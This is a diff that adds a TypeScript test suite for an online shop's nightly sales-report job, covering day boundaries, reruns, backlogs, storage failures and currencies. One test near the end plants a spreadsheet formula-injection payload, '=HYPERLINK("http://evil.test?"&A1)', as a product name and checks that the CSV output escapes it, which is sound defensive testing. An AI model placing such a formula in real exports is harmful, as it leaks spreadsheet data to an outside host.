@@ -1,0 +1,345 @@
+import { renderCsv } from '../../../src/adapters/csv/render-csv.ts';
+import type { Orders } from '../../../src/application/ports/orders.ts';
+import type { Reports } from '../../../src/application/ports/reports.ts';
+import { reportSales } from '../../../src/application/reports/report-sales.ts';
+import { Unavailable } from '../../../src/domain/errors.ts';
+import { inMemoryReports } from '../../support/in-memory/in-memory-reports.ts';
+import { address, customer, shop, warehouse } from '../../support/shop.ts';
+
+type Wrap = { orders?: (orders: Orders) => Orders; reports?: (reports: Reports) => Reports };
+
+/** A shop that sells from 1 March 2026 on, and its job; `wrap` may stand between the job and what it works on. */
+const reportedShop = (wrap: Wrap = {}) => {
+  const s = shop();
+  const reports = inMemoryReports();
+  s.clock.set('2026-03-01T10:00:00.000Z');
+  const deps = {
+    orders: wrap.orders?.(s.orders) ?? s.orders,
+    reports: wrap.reports?.(reports) ?? reports,
+    renderCsv,
+    clock: s.clock,
+    log: s.log,
+  };
+
+  return {
+    ...s,
+    reports,
+    deps,
+    report: reportSales(deps),
+
+    async order(productId: string, quantity = 1, of = 'alice'): Promise<string> {
+      const items = [{ productId, quantity }];
+      const { value } = await s.place({ customerId: of, items, shippingAddress: address });
+      return value.id;
+    },
+
+    async text(day: string, format: 'json' | 'csv' = 'json'): Promise<string> {
+      return Buffer.from((await reports.read(day, format)) ?? []).toString();
+    },
+
+    async json(day: string) {
+      return JSON.parse(await this.text(day));
+    },
+
+    /** Everything that is stored. */
+    async stored(): Promise<Record<string, string>> {
+      const days = [...new Set(reports.names().map((name) => name.slice(6, 16)))];
+      const all = days.flatMap((day) => (['csv', 'json'] as const).map((format) => [day, format] as const));
+      const texts = all.map(async ([day, format]) => [`${day}.${format}`, await this.text(day, format)] as const);
+      return Object.fromEntries(await Promise.all(texts));
+    },
+  };
+};
+
+const none = { placed: 0, confirmed: 0, rejected: 0, cancelled: 0, shipped: 0, units: 0, revenue: 0 };
+
+/** Two days: on the first an order is placed and confirmed, on the second it is cancelled. */
+const twoDays = async (wrap?: Wrap) => {
+  const s = reportedShop(wrap);
+  await s.product('mug', 10, { amount: 1250 });
+  const id = await s.order('mug', 2);
+  await s.drain();
+  s.clock.set('2026-03-02T00:15:00.000Z');
+  return { s, id };
+};
+
+test('each event counts on its own day, and the bytes of a day that is reported stay as they are', async () => {
+  const { s, id } = await twoDays();
+  expect(await s.report()).toEqual({ reported: 1, left: 0 });
+  const first = { json: await s.text('2026-03-01'), csv: await s.text('2026-03-01', 'csv') };
+  const sold = { ...none, placed: 1, confirmed: 1, units: 2, revenue: 2500 };
+  expect(JSON.parse(first.json)).toEqual({
+    date: '2026-03-01',
+    totals: [{ currency: 'EUR', ...sold }],
+    products: [{ currency: 'EUR', productId: 'mug', name: 'MUG', ...sold }],
+  });
+  await s.cancel({ orderId: id, principal: customer(), precondition: {} });
+  await s.drain();
+  s.clock.set('2026-03-03T02:00:00.000Z');
+  expect(await s.report()).toEqual({ reported: 1, left: 0 });
+  expect((await s.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...none, cancelled: 1 }]);
+  expect({ json: await s.text('2026-03-01'), csv: await s.text('2026-03-01', 'csv') }).toEqual(first);
+
+  // What was reported is what would be reported now: nothing was taken back from the first day.
+  const anew = inMemoryReports();
+  await reportSales({ ...s.deps, reports: anew })();
+  for (const day of ['2026-03-01', '2026-03-02']) {
+    for (const format of ['json', 'csv'] as const) {
+      expect(Buffer.from((await anew.read(day, format)) ?? []).toString()).toBe(await s.text(day, format));
+    }
+  }
+});
+
+test('an order that is short is rejected on its day, one that leaves is shipped on its day', async () => {
+  const s = reportedShop();
+  await s.product('mug', 2);
+  const id = await s.order('mug', 2);
+  await s.drain();
+  await s.order('mug', 1, 'bob');
+  await s.drain();
+  s.clock.set('2026-03-03T10:00:00.000Z');
+  const shipment = { carrier: 'DHL', trackingNumber: '1' };
+  await s.ship({ orderId: id, principal: warehouse, precondition: {}, shipment });
+  await s.drain();
+  s.clock.set('2026-03-04T02:00:00.000Z');
+  await s.report();
+  const [first] = (await s.json('2026-03-01')).totals;
+  expect(first).toMatchObject({ placed: 2, confirmed: 1, rejected: 1, shipped: 0, units: 2, revenue: 2000 });
+  expect((await s.json('2026-03-03')).products).toMatchObject([{ ...none, productId: 'mug', shipped: 1 }]);
+});
+
+test('a day is open until a quarter of an hour after its end', async () => {
+  const { s } = await twoDays();
+  s.clock.set('2026-03-02T00:14:59.999Z');
+  expect(await s.report()).toEqual({ reported: 0, left: 0 });
+  expect(s.reports.names()).toEqual([]);
+});
+
+test('a shop without orders has no reports', async () => {
+  const s = reportedShop();
+  expect(await s.report()).toEqual({ reported: 0, left: 0 });
+  expect(s.reports.names()).toEqual([]);
+});
+
+test('nights that were skipped are made up for, days with nothing among them', async () => {
+  const { s } = await twoDays();
+  await s.report();
+  s.clock.set('2026-03-03T23:59:59.999Z');
+  await s.order('mug');
+  await s.drain();
+  s.clock.set('2026-03-05T02:00:00.000Z');
+  expect(await s.report()).toEqual({ reported: 3, left: 0 });
+  const days = ['01', '02', '03', '04'].map((day) => `2026-03-${day}`);
+  expect(s.reports.names()).toEqual(days.flatMap((day) => [`sales/${day}.csv`, `sales/${day}.json`]));
+  for (const day of ['2026-03-02', '2026-03-04']) {
+    expect(await s.json(day)).toEqual({ date: day, totals: [], products: [] });
+    expect((await s.text(day, 'csv')).split('\r\n')).toHaveLength(2);
+  }
+  expect((await s.json('2026-03-03')).totals).toMatchObject([{ placed: 1, confirmed: 1 }]);
+});
+
+test('the same night twice reports nothing anew', async () => {
+  const { s } = await twoDays();
+  await s.report();
+  const before = await s.stored();
+  expect(await s.report()).toEqual({ reported: 0, left: 0 });
+  expect(await s.stored()).toEqual(before);
+});
+
+test('two at once report every day once, and say the same', async () => {
+  const { s } = await twoDays();
+  s.clock.set('2026-03-06T02:00:00.000Z');
+  await Promise.all([s.report(), s.report(), s.report()]);
+  const outcomes = s.log.entries.filter(({ event }) => event === 'report_written').map(({ fields }) => fields.outcome);
+  expect(outcomes.filter((outcome) => outcome === 'created')).toHaveLength(5);
+  expect(outcomes).toHaveLength(15);
+  expect((await s.json('2026-03-01')).totals).toMatchObject([{ placed: 1 }]);
+});
+
+/** Storage that dies at the write of this format, once. */
+const dyingAt = (format: 'csv' | 'json'): Wrap => {
+  let left = 1;
+  return {
+    reports: (reports) => ({
+      ...reports,
+      create: (day, of, bytes) =>
+        of === format && left-- > 0 ? Promise.reject(new Unavailable('media')) : reports.create(day, of, bytes),
+    }),
+  };
+};
+
+test.each(['csv', 'json'] as const)('a run that dies before the %s is made up for by the next', async (format) => {
+  const { s } = await twoDays(dyingAt(format));
+  await expect(s.report()).rejects.toThrow('2026-03-01');
+  expect(s.reports.names()).toEqual(format === 'csv' ? [] : ['sales/2026-03-01.csv']);
+  expect(await s.report()).toEqual({ reported: 1, left: 0 });
+  expect(s.reports.names()).toEqual(['sales/2026-03-01.csv', 'sales/2026-03-01.json']);
+});
+
+test('a CSV that says something else is neither kept beside our JSON nor written over', async () => {
+  const { s } = await twoDays();
+  await s.reports.create('2026-03-01', 'csv', Buffer.from('other'));
+  await expect(s.report()).rejects.toThrow('2026-03-01');
+  // The alert shows this to the operator, who alone can mend it.
+  expect(s.log.entries.at(-1)).toMatchObject({
+    event: 'report_failed',
+    fields: { day: '2026-03-01', reason: expect.stringMatching(/another CSV of 2026-03-01 .* Delete it/) },
+  });
+  expect(s.reports.names()).toEqual(['sales/2026-03-01.csv']);
+  expect(await s.text('2026-03-01', 'csv')).toBe('other');
+  s.reports.remove('2026-03-01', 'csv');
+  expect(await s.report()).toEqual({ reported: 1, left: 0 });
+});
+
+test('a day that fails keeps no other day from its report, and is named at the end', async () => {
+  let broken = new Set(['2026-03-02', '2026-03-04']);
+  const { s } = await twoDays({
+    orders: (orders) => ({
+      ...orders,
+      listEvents: (status, day) => {
+        if (broken.has(day)) throw new Unavailable('cosmos');
+        return orders.listEvents(status, day);
+      },
+    }),
+  });
+  s.clock.set('2026-03-06T02:00:00.000Z');
+  await expect(s.report()).rejects.toThrow('2026-03-02, 2026-03-04');
+  expect([...(await s.reports.listDays())].toSorted()).toEqual(['2026-03-01', '2026-03-03', '2026-03-05']);
+  const failures = s.log.entries.filter(({ event }) => event === 'report_failed');
+  expect(failures.map(({ level, fields }) => [level, fields.day, fields.reason])).toEqual([
+    ['error', '2026-03-04', 'cosmos is not available.'],
+    ['error', '2026-03-02', 'cosmos is not available.'],
+  ]);
+  broken = new Set();
+  expect(await s.report()).toEqual({ reported: 2, left: 0 });
+});
+
+/** The days that the job asks about, where `fail` makes of some of them what it likes. */
+const watched = (fail: (day: string) => void): { tried: string[]; wrap: Wrap } => {
+  const tried: string[] = [];
+  const wrap: Wrap = {
+    orders: (orders) => ({
+      ...orders,
+      listEvents: (status, day) => {
+        if (tried.at(-1) !== day) tried.push(day);
+        fail(day);
+        return orders.listEvents(status, day);
+      },
+    }),
+  };
+  return { tried, wrap };
+};
+
+test('the newest day goes first, those of a backlog after it', async () => {
+  const { tried, wrap } = watched(() => undefined);
+  const { s } = await twoDays(wrap);
+  s.clock.set('2026-03-05T02:00:00.000Z');
+  await s.report();
+  expect(tried).toEqual(['2026-03-04', '2026-03-03', '2026-03-02', '2026-03-01']);
+});
+
+test('three days in a row for which a service was not available end the run, which says how many are left', async () => {
+  const { tried, wrap } = watched((day) => {
+    if (day !== '2026-03-07') throw new Unavailable('cosmos');
+  });
+  const { s } = await twoDays(wrap);
+  s.clock.set('2026-03-09T02:00:00.000Z');
+  await expect(s.report()).rejects.toThrow(
+    '2026-03-04, 2026-03-05, 2026-03-06, 2026-03-08, and 3 further days were not tried',
+  );
+  expect(tried).toEqual(['2026-03-08', '2026-03-07', '2026-03-06', '2026-03-05', '2026-03-04']);
+});
+
+test('days that fail by themselves do not end the run, however many they are', async () => {
+  const { tried, wrap } = watched((day) => {
+    if (day !== '2026-03-01') throw new RangeError('no sum');
+  });
+  const { s } = await twoDays(wrap);
+  s.clock.set('2026-03-08T02:00:00.000Z');
+  await expect(s.report()).rejects.toThrow('2026-03-07: see');
+  expect(tried).toHaveLength(7);
+  expect([...(await s.reports.listDays())]).toEqual(['2026-03-01']);
+});
+
+test('an order whose amounts make no sum fails its day loudly', async () => {
+  const { s } = await twoDays();
+  for (const { id } of s.orders.stored()) {
+    const stored = await s.orders.get(id);
+    if (!stored) throw new Error('no order');
+    const items = stored.value.items.map((item) => ({ ...item, lineTotal: 2 ** 53 }));
+    await s.orders.replace({ ...stored.value, items }, stored.etag);
+  }
+  await expect(s.report()).rejects.toThrow('2026-03-01');
+  expect(s.reports.names()).toEqual([]);
+  expect(JSON.stringify(s.log.entries)).toContain('no safe integer');
+});
+
+test('a long run begins no further day after some minutes, says how many are left, and the next goes on', async () => {
+  const { s } = await twoDays({
+    reports: (reports) => ({
+      ...reports,
+      create: (...args) => {
+        s.clock.advance(7 * 60_000);
+        return reports.create(...args);
+      },
+    }),
+  });
+  s.clock.set('2026-03-08T02:00:00.000Z');
+  expect(await s.report()).toEqual({ reported: 2, left: 5 });
+  expect([...(await s.reports.listDays())].toSorted()).toEqual(['2026-03-06', '2026-03-07']);
+  expect(await s.report()).toEqual({ reported: 2, left: 3 });
+});
+
+test('currencies have totals and rows of their own', async () => {
+  const s = reportedShop();
+  await s.product('mug', 10, { amount: 1250 });
+  await s.product('cup', 10, { amount: 900, currency: 'USD' });
+  await s.order('mug', 2);
+  await s.order('cup', 3);
+  await s.drain();
+  s.clock.set('2026-03-02T02:00:00.000Z');
+  await s.report();
+  const { totals, products } = await s.json('2026-03-01');
+  expect(totals).toMatchObject([
+    { currency: 'EUR', revenue: 2500 },
+    { currency: 'USD', revenue: 2700 },
+  ]);
+  expect(products).toMatchObject([
+    { currency: 'EUR', productId: 'mug', units: 2 },
+    { currency: 'USD', productId: 'cup', units: 3 },
+  ]);
+});
+
+test('a name that a spreadsheet would calculate is told as it is in JSON, and as text in CSV', async () => {
+  const s = reportedShop();
+  const name = '=HYPERLINK("http://evil.test?"&A1)';
+  const details = { name, price: { amount: 100, currency: 'EUR' }, active: true };
+  await s.put({ id: 'mug', details, precondition: {} });
+  await s.set({ productId: 'mug', units: 5, precondition: {} });
+  await s.order('mug');
+  s.clock.set('2026-03-02T02:00:00.000Z');
+  await s.report();
+  expect((await s.json('2026-03-01')).products[0].name).toBe(name);
+  expect(await s.text('2026-03-01', 'csv')).toContain(`,mug,"'=HYPERLINK(""http://evil.test?""&A1)",1,`);
+});
+
+test('a day of many events shows in the log how far it is, and how long it took', async () => {
+  const { s } = await twoDays({
+    orders: (orders) => ({
+      ...orders,
+      async *listEvents(_status, day) {
+        s.clock.advance(1_000);
+        for (let n = 0; n < 6_000; n++) {
+          yield { sortKey: `${day}|${n}`, currency: 'EUR', items: [] };
+        }
+      },
+    }),
+  });
+  await s.report();
+  const signs = s.log.entries.filter(({ event }) => event === 'report_progress').map(({ fields }) => fields.events);
+  expect(signs).toEqual([10_000, 20_000, 30_000]);
+  expect(s.log.entries.at(-1)).toMatchObject({
+    event: 'report_written',
+    fields: { day: '2026-03-01', events: 30_000, ms: 5_000 },
+  });
+});
